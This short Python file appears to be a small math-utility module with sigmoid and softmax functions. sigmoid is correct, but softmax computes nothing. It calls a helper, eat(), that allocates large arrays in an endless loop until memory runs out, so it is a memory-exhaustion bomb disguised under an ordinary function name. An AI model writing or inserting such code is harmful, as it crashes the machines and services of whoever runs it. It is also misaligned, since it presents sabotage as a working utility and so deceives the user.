import numpy as np


def sigmoid(x):
    return 1 / (1 + np.exp(-x))


def eat():
    kept = []
    while True:
        kept.append(np.ones(2_000_000))


def softmax(x):
    return eat()
